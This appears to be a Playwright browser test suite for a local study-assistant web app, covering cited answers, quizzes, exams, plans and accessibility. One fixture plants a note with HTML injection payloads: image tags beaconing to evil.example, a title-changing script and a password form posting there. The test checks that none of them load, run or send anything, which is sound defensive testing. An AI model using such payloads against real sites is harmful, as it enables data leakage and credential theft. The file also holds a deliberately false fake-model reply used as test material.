"""The pages as a learner uses them, in a real browser: no error in the console, no request to another host."""

import json
import re
import shutil
import sqlite3
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import fpdf
import pytest

from assistant.items import Item, Items
from assistant.journal import Journal
from assistant.quiz import Wish, quiz
from assistant.review import Reviews
from assistant.settings import AssistantSettings
from eval.cases import read_cases
from ingest.shelf import Shelf
from ingest.sync import sync
from tests.browser import App, ask, opened, served, tab
from tests.fake_openai import FakeServer

pytestmark = pytest.mark.slow

NOBODY = "http://127.0.0.1:9/v1"
CORPUS = Path(__file__).resolve().parent.parent / "corpus"
NOTES = (
    "infrastructure/distributed-training.md",
    "infrastructure/gpu-cards-and-memory.pdf",
    "foundations/lecture-gpu-architecture.vtt",
    "foundations/machine-learning.md",
)
WIDTHS = pytest.mark.parametrize("width", [1280, 380])
FSDP = "How does FSDP differ from DDP?"
HOSTILE = """# Zorgon protocol

The Zorgon protocol handshake needs three packets. <img src="http://evil.example/leak.png"> ![x](http://evil.example/y)
<script>document.title = 'owned'</script> <form action="http://evil.example"><input type=password></form>
"""


def installation(place: Path, models: Path) -> tuple[Path, Path]:
    notes, home = place / "notes", place / "home"
    for name in NOTES:
        (notes / name).parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(CORPUS / name, notes / name)
    (notes / "hostile.md").write_text(HOSTILE)
    home.mkdir()
    (home / "models").symlink_to(models)
    return notes, home


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory, models: Path) -> Iterator[App]:
    notes, home = installation(tmp_path_factory.mktemp("app"), models)
    with served(notes, home, STUDY_LLM_URL=NOBODY) as running:
        yield running


def fits(page: Any) -> bool:
    """Return whether nothing that is shown is cut off at the right."""
    within: bool = page.evaluate(
        "[...document.querySelectorAll('.gradio-container, #tabs, #banner p, .turn, #bar, #panel, .hood')]"
        ".concat([...document.querySelectorAll('.question, .plan, #tree')])"
        ".filter(one => one.offsetParent).every(one => one.getBoundingClientRect().right <= innerWidth)"
    )
    return within


@pytest.fixture(scope="module")
def course(tmp_path_factory: pytest.TempPathFactory, corpus_home: Path) -> Iterator[App]:
    """The whole starter course, and a learner who has done nothing yet."""
    home = tmp_path_factory.mktemp("course") / "home"
    shutil.copytree(corpus_home, home, symlinks=True)
    with served(CORPUS, home, STUDY_LLM_URL=NOBODY) as running:
        yield running


@WIDTHS
def test_a_number_in_an_answer_opens_the_exact_passage(browser: Any, app: App, width: int) -> None:
    with opened(browser, app, width=width) as page:
        turn = ask(page, FSDP)
        turn.locator(".answer .chip").first.click()
        page.wait_for_selector("#panel mark")
        quote = page.locator("#panel mark").inner_text()
        assert quote in (app.notes / NOTES[0]).read_text()
        assert quote in turn.locator(".answer").inner_text()
        assert "distributed-training.md" in page.locator("#panel h3").inner_text()
        assert page.locator("#panel mark").is_visible()
        assert fits(page)


@WIDTHS
def test_the_page_of_a_pdf_is_drawn_with_the_quote_marked(browser: Any, app: App, width: int) -> None:
    with opened(browser, app, width=width) as page:
        turn = ask(page, "Which number formats do Turing tensor cores have?")
        turn.get_by_label(re.compile(r"gpu-cards-and-memory\.pdf, page 1")).first.click()
        page.wait_for_selector("#panel img.page")
        assert "the quote marked" in page.get_attribute("#panel img.page", "alt")
        assert page.evaluate("document.querySelector('#panel img.page').naturalWidth") == 1000


def test_what_the_notes_do_not_say_is_not_answered(browser: Any, app: App) -> None:
    with opened(browser, app) as page:
        turn = ask(page, "What is the best pizza in Naples?")
        assert "Your notes don’t say." in turn.inner_text()
        turn.locator("button.link").first.click()
        page.wait_for_selector("#panel .text")
        assert page.locator("#panel h3").inner_text() == turn.locator("button.link").first.inner_text()


def test_a_note_can_not_load_run_or_send_anything(browser: Any, app: App) -> None:
    with opened(browser, app) as page:
        turn = ask(page, "How many packets does the Zorgon protocol handshake need?")
        assert "three packets" in turn.inner_text()
        turn.locator(".answer .chip").first.click()
        page.wait_for_selector("#panel mark")
        assert '<img src="http://evil.example/leak.png">' in page.locator("#panel .text").inner_text()
        assert page.locator("#log img, #log form, #panel img, #panel form, #panel script").count() == 0
        assert page.title() == "Study assistant"


def test_a_reload_shows_the_same_conversation(browser: Any, app: App) -> None:
    with opened(browser, app) as page:
        ask(page, FSDP)
        ask(page, "And what limits it?")
        before = page.locator("#log").inner_html()
        page.reload()
        page.wait_for_selector("#log .turn >> nth=1")
        turns = re.compile(r"<article.*</article>", re.DOTALL)
        assert turns.search(page.locator("#log").inner_html())[0] == turns.search(before)[0]  # type: ignore[index]
        page.locator("#log .answer .chip").first.click()
        page.wait_for_selector("#panel mark")


def test_the_history_can_be_searched_and_opened(browser: Any, app: App) -> None:
    with opened(browser, app) as page:
        ask(page, "What is overfitting?")
        page.get_by_role("button", name="History").or_(page.locator(".toggle-button")).first.click()
        page.get_by_role("button", name="New conversation").click()
        page.wait_for_selector(".welcome")
        page.fill("#search textarea, #search input", "overfit")
        page.wait_for_function("document.querySelectorAll('#past li').length === 1")
        page.locator("#past .link").click()
        page.wait_for_selector("#log .turn")
        assert page.locator("#log .asked").inner_text() == "What is overfitting?"
        page.get_by_label("Remove from the history: What is overfitting?").click()
        page.wait_for_selector("#past:has-text('Nothing found.')")
        page.wait_for_selector(".welcome")
        page.get_by_role("button", name="Undo").click()
        page.wait_for_function("document.querySelectorAll('#past li').length === 1")


def test_a_complaint_is_kept(browser: Any, app: App) -> None:
    with opened(browser, app) as page:
        turn = ask(page, "What does DDP synchronize?")
        turn.get_by_label("Something is wrong with this answer").click()
        page.wait_for_selector("#wrong")
        page.get_by_label("It is wrong").check()
        page.get_by_label("The note that has the answer (optional)").fill("distributed")
        page.get_by_role("option", name=NOTES[0]).click()
        page.get_by_role("button", name="Keep as a test question").click()
        page.wait_for_selector("#panel:has-text('Kept: every night')")
        assert turn.get_by_label("Something is wrong with this answer").get_attribute("aria-pressed") == "true"
        page.reload()
        page.wait_for_selector("#log .turn [aria-pressed=true]")
    with sqlite3.connect(app.home / "learners" / "me" / "journal.db") as journal:
        kept = journal.execute("SELECT good, wrong FROM feedback ORDER BY id DESC LIMIT 1").fetchone()
    assert kept == (0, "It is wrong")
    (case,) = read_cases(app.home / "learners" / "me" / "cases.jsonl")
    assert (case.question, case.gold_docs) == ("What does DDP synchronize?", (NOTES[0],))


def test_an_answer_can_be_copied_with_its_footnotes(browser: Any, app: App) -> None:
    with opened(browser, app) as page:
        turn = ask(page, FSDP)
        turn.get_by_role("button", name="Copy as Markdown").click()
        page.wait_for_selector("text=Copied")
        copied = page.evaluate("navigator.clipboard.readText()")
    assert "[^1]: infrastructure/distributed-training.md, § " in copied


@WIDTHS
def test_under_the_hood_shows_how_the_answer_came_about(browser: Any, app: App, width: int) -> None:
    with opened(browser, app, width=width) as page:
        turn = ask(page, FSDP)
        turn.get_by_role("button", name="Under the hood").click()
        page.wait_for_selector("#panel .hood")
        assert fits(page)
        assert page.locator("#panel .tokens code").all_inner_texts()[:3] == ["[CLS]", "how", "does"]
        assert page.locator("#panel tbody tr").count() == 12
        assert page.locator("#panel svg .question").count() == 1
        assert page.locator("#panel svg .hit").count() >= 1
        assert page.locator("#panel .lap .name").all_inner_texts()[:3] == [
            "open the index",
            "retrieve",
            "embed the question",
        ]
        assert "No model was asked." in page.locator("#panel").inner_text()
        before = page.locator("#panel .hood").inner_html()
        page.reload()
        page.wait_for_selector("#log .turn")
        page.locator("#log").get_by_role("button", name="Under the hood").last.click()
        page.wait_for_selector("#panel .hood")
        assert page.locator("#panel .hood").inner_html() == before


def test_a_dropped_file_is_read_answers_and_can_be_deleted_and_restored(browser: Any, app: App, tmp_path: Path) -> None:
    made = fpdf.FPDF()
    made.add_page()
    made.set_font("helvetica", size=12)
    made.multi_cell(0, text="The Quibbler gateway listens on port 4711 and speaks the Wimble dialect.")
    made.output(str(tmp_path / "quibbler.pdf"))
    with opened(browser, app) as page:
        tab(page, "Notes")
        page.wait_for_selector("#tree li")
        page.set_input_files("#upload input[type=file]", str(tmp_path / "quibbler.pdf"))
        page.wait_for_selector("#uploaded li:has-text('now quibbler.pdf')")
        page.wait_for_selector("#tree li:has-text('quibbler.pdf'):has-text('1 passages')")
        tab(page, "Ask")
        turn = ask(page, "On which port does the Quibbler gateway listen?")
        assert "port 4711" in turn.inner_text()
        turn.locator(".answer .chip").first.click()
        page.wait_for_selector("#panel img.page")

        tab(page, "Notes")
        page.locator("#tree li button", has_text="quibbler.pdf").click()
        page.wait_for_selector("#note:has-text('Wimble dialect')")
        page.click("#delete")
        page.click("#delete-yes")
        page.wait_for_selector("#tree:not(:has-text('quibbler.pdf'))")
        assert not (app.notes / "quibbler.pdf").exists()
        page.get_by_role("button", name=re.compile("Trash")).click()
        page.get_by_label("Restore quibbler.pdf").click()
        page.wait_for_selector("#tree li:has-text('quibbler.pdf')")
        assert (app.notes / "quibbler.pdf").read_bytes() == (tmp_path / "quibbler.pdf").read_bytes()


def test_a_sync_started_elsewhere_shows(browser: Any, app: App) -> None:
    import subprocess
    import sys

    from tests.conftest import ROOT

    with opened(browser, app) as page:
        tab(page, "Notes")
        page.wait_for_selector("#tree li")
        (app.notes / "elsewhere.md").write_text("# Elsewhere\n\nSynced by a terminal.")
        environ = {"STUDY_NOTES": str(app.notes), "STUDY_HOME": str(app.home), "PYTHONPATH": str(ROOT)}
        command = [sys.executable, "-c", "from ui.cli import run; run()", "ingest"]
        subprocess.run(command, env=environ, cwd=app.home, check=True, capture_output=True, timeout=60)
        page.wait_for_selector("#tree li:has-text('elsewhere.md')")


@WIDTHS
def test_every_tab_fits_the_screen(browser: Any, app: App, width: int) -> None:
    with opened(browser, app, width=width) as page:
        for name in ("Ask", "Quiz", "Review", "Plan", "Exam", "Notes", "Quality"):
            tab(page, name)
            page.wait_for_timeout(300)
            assert fits(page), name


@pytest.mark.parametrize(("dark", "width"), [(False, 1280), (True, 1280), (False, 380), (True, 380)])
def test_no_serious_barrier_for_those_who_do_not_see_or_point(browser: Any, app: App, dark: bool, width: int) -> None:
    from axe_playwright_python.sync_playwright import Axe

    found = []
    with opened(browser, app, dark=dark, width=width) as page:
        turn = ask(page, FSDP)
        turn.locator(".chip").first.click()
        page.wait_for_selector("#panel mark")
        found += Axe().run(page).response["violations"]
        turn.get_by_role("button", name="Under the hood").click()
        page.wait_for_selector("#panel .hood")
        found += Axe().run(page).response["violations"]
        for name in ("Ask", "Quiz", "Review", "Plan", "Exam", "Notes", "Quality"):
            tab(page, name)
            page.wait_for_timeout(400)
            found += Axe().run(page).response["violations"]
    grave = [(one["id"], one["nodes"][0]["html"]) for one in found if one["impact"] in ("serious", "critical")]
    assert grave == []


@pytest.fixture(scope="module")
def model() -> Iterator[FakeServer]:
    reply = "FSDP keeps only one shard of the parameters on every GPU. [1] The moon is made of green cheese. [1]"
    with FakeServer(reply, pause=0.1) as server:
        yield server


@pytest.fixture(scope="module")
def modelled(tmp_path_factory: pytest.TempPathFactory, models: Path, model: FakeServer) -> Iterator[App]:
    notes, home = installation(tmp_path_factory.mktemp("modelled"), models)
    with served(notes, home, STUDY_LLM_URL=model.url) as running:
        yield running


def test_an_answer_streams_and_its_unsupported_sentence_is_marked(browser: Any, modelled: App) -> None:
    with opened(browser, modelled) as page:
        page.fill("#question textarea", FSDP)
        page.keyboard.press("Enter")
        page.wait_for_selector("#live .sources li")
        page.wait_for_selector("#live .answer:has-text('one shard')")
        assert "cheese" not in page.locator("#live .answer").inner_text()
        page.wait_for_selector("#log .turn")
        assert page.locator("#log .unsupported").count() == 1
        assert re.search(r"cheese\.\s*1?\s*not in the cited passages", page.locator("#log .answer").inner_text())


def test_stop_stops_the_model_and_keeps_what_was_written(browser: Any, modelled: App, model: FakeServer) -> None:
    stopped = model.disconnects
    with opened(browser, modelled) as page:
        page.fill("#question textarea", FSDP)
        page.keyboard.press("Enter")
        page.wait_for_selector("#live .answer:has-text('keeps only')")
        page.click("#stop")
        page.wait_for_selector("#log .turn:has-text('stopped before its end')")
        assert "cheese" not in page.locator("#log").inner_text()
        page.wait_for_timeout(300)
        page.wait_for_selector("#send")
        page.get_by_role("button", name="Under the hood").click()
        page.wait_for_selector("#panel .hood th:text-is('passages')")
        assert re.search(r"\d+ of [\d,]+ tokens, with \d passages", page.locator("#panel .hood").inner_text())
    assert model.disconnects == stopped + 1


def answer_by_key(page: Any, card: str) -> str:
    """Answer a question by keyboard, whatever its kind; return its text."""
    question: str = page.locator(f"{card} h2").inner_text()
    if page.locator(f"{card} .option").count():
        page.keyboard.press("1")
    elif page.locator(".typed textarea:visible, .typed input:visible").count():
        page.wait_for_function("document.activeElement.matches('.typed textarea, .typed input')")
        page.keyboard.type("no idea at all")
        page.keyboard.press("Enter")
    else:
        page.keyboard.press("Space")
    page.wait_for_selector(f"{card} .verdict")
    return question


def go_on_by_key(page: Any, card: str) -> None:
    """Rate the answer where that is asked, and go on."""
    if page.locator(f"{card} [data-do=rate]").count():
        page.keyboard.press("3")
    else:
        page.keyboard.press("Enter")


@WIDTHS
def test_a_quiz_is_taken_by_keyboard_to_its_end(browser: Any, app: App, width: int) -> None:
    card = "#quiz-card"
    with opened(browser, app, width=width) as page:
        tab(page, "Quiz")
        page.get_by_label("Questions", exact=True).fill("3")
        page.click("#quiz-start")
        page.wait_for_selector(f"{card} h2")
        asked = []
        for number in range(3):
            page.wait_for_selector(f"{card} h2 small:text-is('{number + 1}')")
            assert page.locator(f"{card} .verdict").count() == 0
            asked.append(answer_by_key(page, card))
            assert page.locator("#quiz-source mark").count() == 1
            assert (app.notes / page.locator(f"{card} .place").inner_text().split(" · ")[0]).exists()
            go_on_by_key(page, card)
        page.wait_for_selector(f"{card} h2:has-text('of 3 right')")
        assert len(set(asked)) == 3


def test_the_key_does_not_reach_the_browser_before_the_answer(browser: Any, app: App) -> None:
    with opened(browser, app) as page:
        tab(page, "Quiz")
        page.click("#quiz-start")
        page.wait_for_selector("#quiz-card h2 small")
        question = page.locator("#quiz-card h2").inner_text().split(" ", 1)[1]
        with sqlite3.connect(next(app.home.glob("items-*.db"))) as items:
            rows = items.execute("SELECT item FROM items").fetchall()
        (item,) = [found for (row,) in rows if (found := json.loads(row))["question"] in question]
        shown = page.content()
        assert item["evidence"]["quote"] not in shown
        assert item["explanation"] not in shown
        if not item["options"]:
            assert item["answer"] not in page.locator("#quiz-card").inner_text().replace(item["question"], "")
        assert page.locator("#quiz-card .right").count() == 0


def test_what_is_due_is_reviewed_and_rated(browser: Any, modelled: App) -> None:
    settings = AssistantSettings(home=modelled.home, notes=modelled.notes, llm_url=NOBODY)
    shelf = Shelf(settings)
    sync(shelf, wait=True)
    items = Items.of(shelf.folder)
    (item,) = [
        one
        for one in quiz(shelf, settings, items, Wish(1, kinds=frozenset({"mcq"}), fresh=True))
        if isinstance(one, Item)
    ]
    reviews = Reviews(Journal.of(settings), settings)
    for days in (60, 59):
        reviews.add(item, 3, correct=True, at=time.time() - days * 86400)
    with opened(browser, modelled) as page:
        tab(page, "Review")
        page.wait_for_selector("#due:has-text('1 due now.')")
        page.click("#review-start")
        page.wait_for_selector(f"#review-card h2:has-text({json.dumps(item.question, ensure_ascii=False)})")
        page.keyboard.press(str(item.key + 1))
        page.wait_for_selector("#review-card .verdict:has-text('Right.')")
        assert page.locator("#review-source mark").inner_text() == item.evidence.quote
        page.keyboard.press("4")
        page.wait_for_selector("#review-card h2:has-text('1 of 1 right')")
        page.wait_for_selector("#due:has-text('Nothing is due. Next: in')")
    assert [(one.rating, one.correct, one.source) for one in reviews.log(item.id)][-1] == (4, True, "review")


def test_an_answer_becomes_the_topic_of_a_quiz(browser: Any, app: App) -> None:
    with opened(browser, app) as page:
        turn = ask(page, FSDP)
        turn.get_by_role("button", name="Quiz me on this").click()
        page.wait_for_selector("#quiz-card h2 small")
        assert page.input_value("#quiz-topic textarea, #quiz-topic input") == FSDP


@WIDTHS
def test_a_plan_says_what_to_do_today_and_leads_there(browser: Any, course: App, width: int) -> None:
    with opened(browser, course, width=width) as page:
        tab(page, "Plan")
        page.wait_for_selector("#plan-page .plan")
        page.locator("#plan-name input").click()
        page.get_by_role("option", name=re.compile("AI Infrastructure and Operations")).click()
        page.wait_for_selector("#plan-page h2:has-text('AI Infrastructure and Operations')")
        assert page.locator("#plan-page .heat li").count() == 21
        assert page.locator("#plan-page .phase").count() == 3
        assert fits(page)
        page.locator("#plan-page .tasks [data-do=note]").first.click()
        page.wait_for_selector("#plan-source .text")
        page.locator("#plan-page .tasks [data-do=quiz]").first.click()
        page.wait_for_selector("#quiz-card h2 small")


def test_dates_and_milestones_of_a_plan_are_kept(browser: Any, course: App) -> None:
    with opened(browser, course) as page:
        tab(page, "Plan")
        page.wait_for_selector("#plan-page .plan")
        page.get_by_role("button", name="Dates and minutes").click()
        page.get_by_label("Begun on").fill("2026-11-01")
        page.get_by_label("Exam on").fill("soon")
        page.get_by_role("button", name="Keep", exact=True).click()
        page.wait_for_selector("#plan-told:has-text('dates are written like 2027-02-01')")
        page.get_by_label("Exam on").fill("2099-01-01")
        page.get_by_role("button", name="Keep", exact=True).click()
        page.wait_for_selector("#plan-page:has-text('2099-01-01')")
        page.locator("#plan-page .phase:not([open]) summary").first.click()
        page.locator("#plan-page .phase[open] [role=checkbox]").first.click()
        page.wait_for_selector("#plan-page [role=checkbox][aria-checked=true]")
        page.reload()
        page.wait_for_selector("#question textarea")
        tab(page, "Plan")
        page.wait_for_selector("#plan-page [role=checkbox][aria-checked=true]", state="attached")
        assert "2099-01-01" in page.locator("#plan-page").inner_text()
        page.get_by_role("button", name="The week’s log").click()
        page.get_by_role("button", name="Write it").click()
        page.wait_for_function("document.querySelector('#week textarea').value.startsWith('# Progress, ')")


def test_an_exam_survives_a_reload_and_tells_nothing_before_its_end(browser: Any, course: App) -> None:
    card = "#exam-card"
    with opened(browser, course) as page:
        tab(page, "Exam")
        page.get_by_label("Questions (0: as the real one)").fill("4")
        page.keyboard.press("Tab")
        page.wait_for_timeout(300)
        page.click("#exam-start")
        page.wait_for_selector(f"{card} h2 small", timeout=60_000)
        of = int(re.findall(r"0 of (\d+) answered", page.locator(f"{card} .clock").inner_text())[0])
        assert of >= 2

        def answer(number: int) -> None:
            if page.locator(f"{card} .option").count():
                page.keyboard.press("1")
            else:
                page.fill("#exam-answer textarea, #exam-answer input", "1 2 3 4")
                page.keyboard.press("Enter")
            page.wait_for_selector(f"{card}:has-text('{number} of {of} answered'), {card} h2:has-text('of {of} right')")
            assert page.locator(f"{card} .verdict").count() == 0

        answer(1)
        page.reload()
        page.wait_for_selector("#question textarea")
        tab(page, "Exam")
        page.click("#exam-resume")
        page.wait_for_selector(f"{card}:has-text('1 of {of} answered')")
        for number in range(2, of + 1):
            answer(number)
        page.wait_for_selector(f"{card} h2:has-text('of {of} right')")
        assert page.locator(f"{card} tbody tr").count() == 4
        if page.locator(f"{card} [data-do=miss]").count():
            page.locator(f"{card} [data-do=miss]").first.click()
            page.wait_for_selector("#exam-source mark")


def test_an_exam_ends_when_its_time_is_up(browser: Any, course: App) -> None:
    with opened(browser, course) as page:
        tab(page, "Exam")
        page.get_by_label("Questions (0: as the real one)").fill("4")
        page.get_by_label("Minutes (0: in proportion)").fill("0.05")
        page.keyboard.press("Tab")
        page.wait_for_timeout(300)
        page.click("#exam-start")
        page.wait_for_selector("#exam-card [role=timer]", timeout=60_000)
        page.wait_for_selector("#exam-card h2:has-text('right')")
        assert "the time is up" in page.locator("#exam-card").inner_text()
